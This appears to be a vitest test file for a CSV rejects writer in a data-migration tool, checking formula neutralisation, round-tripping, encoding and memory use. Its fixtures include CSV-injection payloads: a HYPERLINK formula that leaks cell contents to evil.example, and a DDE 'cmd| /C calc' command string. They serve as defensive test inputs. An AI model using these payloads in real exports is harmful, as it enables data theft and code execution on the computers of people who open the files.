/**
 * rejects.csv: formula cells neutralised (and only those), one header row over every dataset's columns, quotes,
 * newlines and any script surviving a round trip through csv-parse, a BOM for Excel, and 100,000 rows written without
 * holding them in memory.
 */
import { createReadStream } from 'node:fs';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getHeapStatistics } from 'node:v8';
import { parse } from 'csv-parse';
import { parse as parseSync } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UserError } from '../../src/errors.js';
import { neutralizeFormula, REJECTS_FIXED_COLUMNS, RejectsWriter, type RejectRow } from '../../src/migration/rejects.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kartra-rejects-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

let n = 0;
const pathFor = (name: string): string => join(dir, `${n++}-${name}`);

async function readCsv(path: string): Promise<string[][]> {
  return parseSync(await readFile(path), { bom: true, relax_column_count: false }) as string[][];
}

async function writeAll(path: string, rows: RejectRow[]): Promise<{ rows: number }> {
  const writer = await RejectsWriter.open(path);
  for (const row of rows) await writer.add(row);
  return writer.close();
}

/** What a person gets back from a neutralised cell: the apostrophe removed where the writer added one. */
function original(cell: string): string {
  return cell.startsWith("'") && neutralizeFormula(cell.slice(1)) === cell ? cell.slice(1) : cell;
}

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['=1+1', "'=1+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    // Intended: a phone or a negative amount is shown as the text it was, not computed (+1-555-0100 would be −654).
    ['+1 555 0100', "'+1 555 0100"],
    ['+1-555-0100', "'+1-555-0100"],
    ['-49.00', "'-49.00"],
    ['\t=1+1', "'\t=1+1"],
    ['\rcmd', "'\rcmd"],
    ['\tplain text after a tab', "'\tplain text after a tab"],
    ['   =1+1', "'   =1+1"],
    ['\u00a0@handle', "'\u00a0@handle"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF20x', "'\uFF20x"],
  ])('puts an apostrophe before %j', (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it.each([['José Ñúñez'], [''], ['   '], ['a=b'], ['5+5'], ["'=already text"], ['x\n=1+1'], ['Acme, "Inc."'], ['😀 =1'], ['2026-06-09']])(
    'leaves %j as it is',
    (cell) => {
      expect(neutralizeFormula(cell)).toBe(cell);
    },
  );

  it('only ever adds one apostrophe, and what it returns never starts a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom('', ' ', '  ', '\t', '\r', '=', '+', '-', '@', '\uFF0D'), (tail, head) => {
        const cell = head + tail;
        const out = neutralizeFormula(cell);
        expect(out === cell || out === `'${cell}`).toBe(true);
        expect(/^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(out)).toBe(false);
        expect(neutralizeFormula(out)).toBe(out);
      }),
    );
  });
});

describe('RejectsWriter', () => {
  const leadA: RejectRow = {
    dataset: 'leads',
    file: 'contacts_kartra_09-06-2026_6a28043b37f40.csv',
    line: 55,
    outcome: 'skipped',
    reason: 'no email (empty or a placeholder such as N/A)',
    values: { id: '20481100', first_name: '=HYPERLINK("http://x.example","hi")', email: 'N/A', phone: '+1 555 0100', bio: 'Line one\r\nsaid "hello", then\nleft' },
  };
  const leadB: RejectRow = {
    dataset: 'leads',
    file: 'contacts_kartra_09-06-2026_6a28045415e6b.csv',
    line: 49,
    outcome: 'skipped',
    reason: 'email that is not a valid address',
    // Another chunk: one more column, in another order.
    values: { email: 'john@', id: '20481101', first_name: 'Zoë 李 محمد 🎉', notes: '-minus first' },
  };
  const transaction: RejectRow = {
    dataset: 'transactions',
    file: 'report_all_transactions_09-06-2026_6a2804e5f7d22.csv',
    line: 875,
    outcome: 'failed',
    reason: '=the server said: amount "x" is not a number',
    values: { ID: '9100474', 'Amount (USD)': '-49.00', Buyer_Email: 'a@b.co' },
  };

  it('writes one header row: the fixed columns, then every original header in order of first appearance', async () => {
    const path = pathFor('rejects.csv');
    expect(await writeAll(path, [leadA, leadB, transaction])).toEqual({ rows: 3 });
    const [header, ...rows] = await readCsv(path);
    expect(REJECTS_FIXED_COLUMNS).toEqual(['dataset', 'file', 'line', 'outcome', 'reason']);
    expect(header).toEqual([...REJECTS_FIXED_COLUMNS, 'id', 'first_name', 'email', 'phone', 'bio', 'notes', 'ID', 'Amount (USD)', 'Buyer_Email']);
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
    // Columns a row did not have are empty, not shifted.
    expect(rows[2]!.slice(0, 5)).toEqual(['transactions', transaction.file, '875', 'failed', `'${transaction.reason}`]);
    expect(rows[2]!.slice(5, 11)).toEqual(['', '', '', '', '', '']);
  });

  it('round-trips every original value through csv-parse, formulas shown as text with an apostrophe', async () => {
    const path = pathFor('rejects.csv');
    await writeAll(path, [leadA, leadB, transaction]);
    const [header, ...rows] = await readCsv(path);
    for (const [i, source] of [leadA, leadB, transaction].entries()) {
      const row = rows[i]!;
      for (const [column, value] of Object.entries(source.values)) {
        const cell = row[header!.indexOf(column)]!;
        expect(cell).toBe(neutralizeFormula(value));
        expect(original(cell)).toBe(value);
      }
      expect(original(row[4]!)).toBe(source.reason);
      expect(row[2]).toBe(String(source.line));
    }
    expect(rows[0]![header!.indexOf('first_name')]).toBe(`'=HYPERLINK("http://x.example","hi")`);
    expect(rows[0]![header!.indexOf('phone')]).toBe("'+1 555 0100");
    expect(rows[0]![header!.indexOf('bio')]).toBe('Line one\r\nsaid "hello", then\nleft');
    expect(rows[1]![header!.indexOf('first_name')]).toBe('Zoë 李 محمد 🎉');
  });

  it('starts with a UTF-8 BOM, ends records with CRLF and quotes what needs quoting', async () => {
    const path = pathFor('rejects.csv');
    await writeAll(path, [leadA]);
    const bytes = await readFile(path);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.startsWith('dataset,file,line,outcome,reason,id,first_name,email,phone,bio\r\n')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://x.example"",""hi"")"`);
    expect(text).toContain('"Line one\r\nsaid ""hello"", then\nleft"');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('round-trips arbitrary text in any script, with quotes, commas and line breaks', async () => {
    const cell = fc.string({ unit: 'binary', maxLength: 12 });
    const tricky = fc.constantFrom('"', ',', '\n', '\r\n', '\r', ';', '\t', '=', '+', '-', '@', ' ', 'é', '𝄞', '\u0000', "'", '\u2028', '\u0085', '\uFEFF');
    const value = fc.array(fc.oneof(cell, tricky), { maxLength: 4 }).map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(value, value, value), { minLength: 1, maxLength: 8 }), async (cells) => {
        const path = pathFor('prop.csv');
        const rows: RejectRow[] = cells.map(([a, b, reason], i) => ({
          dataset: 'leads',
          file: 'f.csv',
          line: i + 2,
          outcome: 'failed',
          reason: reason.trim() === '' ? 'x' : reason,
          values: { a, b },
        }));
        await writeAll(path, rows);
        const [header, ...parsed] = await readCsv(path);
        expect(header).toEqual([...REJECTS_FIXED_COLUMNS, 'a', 'b']);
        parsed.forEach((row, i) => {
          expect(row[4]).toBe(neutralizeFormula(rows[i]!.reason));
          expect(row[5]).toBe(neutralizeFormula(rows[i]!.values.a!));
          expect(row[6]).toBe(neutralizeFormula(rows[i]!.values.b!));
        });
        expect(parsed).toHaveLength(rows.length);
        await rm(path);
      }),
      { numRuns: 40 },
    );
  });

  it('renames an original header that repeats a fixed column, and neutralises headers too', async () => {
    const path = pathFor('rejects.csv');
    await writeAll(path, [
      { dataset: 'leads', file: 'f.csv', line: 2, outcome: 'skipped', reason: 'ragged row', values: { reason: 'mine', Line: '7', '=cmd': 'x', 'reason (export)': 'taken' } },
    ]);
    const [header, row] = await readCsv(path);
    expect(header).toEqual([...REJECTS_FIXED_COLUMNS, 'reason (export 2)', 'Line (export)', "'=cmd", 'reason (export)']);
    expect(row).toEqual(['leads', 'f.csv', '2', 'skipped', 'ragged row', 'mine', '7', 'x', 'taken']);
  });

  it('writes the header alone when nothing was rejected, and leaves no spool behind', async () => {
    const sub = await mkdtemp(join(dir, 'empty-'));
    const path = join(sub, 'rejects.csv');
    expect(await writeAll(path, [])).toEqual({ rows: 0 });
    expect(await readCsv(path)).toEqual([[...REJECTS_FIXED_COLUMNS]]);
    expect(await readdir(sub)).toEqual(['rejects.csv']);
  });

  it('refuses a folder that does not exist when opening, naming the file and what to do', async () => {
    const path = join(dir, 'no-such-folder', 'rejects.csv');
    const error = await RejectsWriter.open(path).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UserError);
    expect((error as Error).message).toBe(`${path}: the rejects file cannot be written (its folder does not exist). Choose a folder you can write to (MIGRATION_HOME) and run the step again.`);
  });

  it('refuses rows without a reason or a line, and use after close', async () => {
    const writer = await RejectsWriter.open(pathFor('rejects.csv'));
    await expect(writer.add({ ...leadA, reason: '  ' })).rejects.toThrow(/needs its reason/);
    await expect(writer.add({ ...leadA, line: 0 })).rejects.toThrow(/line must be a line number/);
    await expect(writer.add({ ...leadA, outcome: 'lost' as 'failed' })).rejects.toThrow(/outcome must be skipped or failed/);
    await writer.add(leadA);
    expect(await writer.close()).toEqual({ rows: 1 });
    await expect(writer.add(leadA)).rejects.toThrow(/after close/);
    await expect(writer.close()).rejects.toThrow(/twice/);
  });

  it('writes 100,000 rows in bounded memory', async () => {
    const path = pathFor('big.csv');
    const writer = await RejectsWriter.open(path);
    const filler = 'x'.repeat(350);
    const base = getHeapStatistics().used_heap_size;
    let peak = base;
    const total = 100_000;
    for (let i = 0; i < total; i++) {
      // Each row is fresh, ~800 bytes: 80 MB in all, twice what the heap may grow by.
      await writer.add({
        dataset: 'leads',
        file: 'contacts.csv',
        line: i + 2,
        outcome: i % 3 === 0 ? 'failed' : 'skipped',
        reason: `reason ${i}`,
        values: { id: String(i), email: `lead${i}@example.com`, bio: `${filler}${i}`, notes: `${i}${filler}`, phone: i % 7 === 0 ? `+1 555 ${i}` : '' },
      });
      if (i % 5_000 === 0) peak = Math.max(peak, getHeapStatistics().used_heap_size);
    }
    const closing = writer.close();
    const sampler = setInterval(() => {
      peak = Math.max(peak, getHeapStatistics().used_heap_size);
    }, 5);
    expect(await closing).toEqual({ rows: total });
    clearInterval(sampler);
    expect(peak - base).toBeLessThan(40 * 1024 * 1024);

    let records = 0;
    let last: string[] = [];
    const parser = createReadStream(path).pipe(parse({ bom: true }));
    for await (const record of parser as AsyncIterable<string[]>) {
      records++;
      last = record;
    }
    expect(records).toBe(total + 1);
    expect(last.slice(0, 6)).toEqual(['leads', 'contacts.csv', String(total + 1), 'failed', `reason ${total - 1}`, String(total - 1)]);
  });
});
